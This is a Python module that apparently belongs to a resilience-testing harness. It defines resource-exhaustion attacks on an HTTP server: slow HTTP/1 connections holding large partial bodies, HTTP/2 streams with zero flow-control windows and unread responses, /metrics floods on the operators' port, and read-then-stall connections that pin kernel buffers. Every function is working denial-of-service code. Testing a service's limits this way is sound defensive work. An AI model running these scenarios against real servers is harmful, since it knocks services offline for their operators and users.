"""What only meets in combination: memory that is short and large messages of others, much work in few bytes, the kernel's memory."""

import asyncio

from families.memory import HELD
from families.places import hold_http1
from stage import http2, reviews
from stage.connections import head, hold
from stage.plan import Limits, attack


@attack("small-beside-large", "5", "1,800 connections that hold 74 KB each and are renewed; the probe's review has 200 KB", limits=HELD, review=200_000)
async def small_beside_large(target):
    filler = b"X-Filler: " + b"x" * 30_000 + b"\r\n"
    await hold_http1(target, 1800, head(44_000, filler) + b"{" * 43_999, rate=400)


@attack("http2-at-once", "6", "30 connections of HTTP/2 that end 250 reviews of 990 containers at once, and take no answer", limits=HELD)
async def http2_at_once(target):
    review = reviews.many_containers(990)

    async def one():
        async with target.connect("h2") as (reader, writer):
            writer.write(http2.PREFACE + http2.settings(initial_window=0) + http2.window(0, 1 << 24))
            streams = range(1, 501, 2)
            for stream in streams:
                writer.write(http2.request(stream) + http2.data(stream, review[:-1]))
                await writer.drain()
            await asyncio.sleep(0.2)
            writer.write(b"".join(http2.data(stream, review[-1:], ends=True) for stream in streams))
            async for _ in http2.frames(reader, writer):
                pass

    await hold(target, 30, one, rate=10)


@attack("operators-http2", "9", "100 connections of HTTP/2 on the operators' port that ask for metrics 250 times, and take no answer", limits=HELD)
async def operators_http2(target):
    asked = b"".join(http2.request(stream, ends=True, method=b"GET", path=b"/metrics") for stream in range(1, 501, 2))

    async def one():
        async with target.connect(port=target.operators_port) as (reader, writer):
            writer.write(http2.PREFACE + http2.settings(initial_window=0) + asked)
            async for _ in http2.frames(reader, writer):
                pass

    await hold(target, 100, one)


@attack("http2-turnover", "7", "8 connections of HTTP/2 that fill 250 bodies each and replace them each half second; the probe's review has 200 KB", review=200_000)
async def http2_turnover(target):
    async def one():
        async with target.connect("h2") as (reader, writer):
            writer.write(http2.PREFACE + http2.settings())

            async def read():
                async for _ in http2.frames(reader, writer):
                    pass

            reading = asyncio.ensure_future(read())
            block = b"{" * 16384
            stream = 1
            open_ones = []
            try:
                while not reading.done():
                    for _ in range(20):
                        writer.write(http2.request(stream) + http2.data(stream, block * 3))
                        open_ones.append(stream)
                        stream += 2
                        if len(open_ones) > 240:
                            writer.write(http2.data(open_ones.pop(0), b"x", ends=True))
                    await writer.drain()
                    await asyncio.sleep(0.02)
            finally:
                reading.cancel()

    await hold(target, 8, one, rate=10)


@attack("saw", "5", "1,800 bodies of 40 KB that come and go together", limits=HELD)
async def saw(target):
    while True:
        try:
            async with asyncio.timeout(3):
                await hold_http1(target, 1800, head(44_000) + b"{" * 43_999, rate=1000)
        except TimeoutError:
            await asyncio.sleep(1)


@attack("early-answers", "2", "20 connections of HTTP/2 with requests that are answered before their body ends", limits=Limits())
async def early_answers(target):
    async def one():
        async with target.connect("h2") as (reader, writer):
            writer.write(http2.PREFACE + http2.settings())
            reading = asyncio.ensure_future(drain(reader, writer))
            stream = 1
            try:
                while not reading.done():
                    for _ in range(20):
                        writer.write(http2.request(stream, path=b"/x") + http2.data(stream, b"", ends=True))
                        stream += 2
                    await writer.drain()
                    await asyncio.sleep(0)
            finally:
                reading.cancel()

    async def drain(reader, writer):
        async for _ in http2.frames(reader, writer):
            pass

    await hold(target, 20, one, rate=20)


@attack("read-then-not", "9", "250 connections on the operators' port that read fast until the kernel trusts them, and then no more", limits=HELD)
async def read_then_not(target):
    request = b"GET /metrics HTTP/1.1\r\nHost: l\r\n\r\n" * 200

    async def one():
        async with target.connect(port=target.operators_port) as (reader, writer):
            async def ask():
                while True:
                    writer.write(request)
                    await writer.drain()
                    await asyncio.sleep(0)

            asking = asyncio.ensure_future(ask())
            try:
                taken = 0
                while taken < 6 << 20:
                    taken += len(await reader.read(1 << 18))
                writer.transport.pause_reading()
                await asyncio.sleep(60)
            finally:
                asking.cancel()

    await hold(target, 250, one)
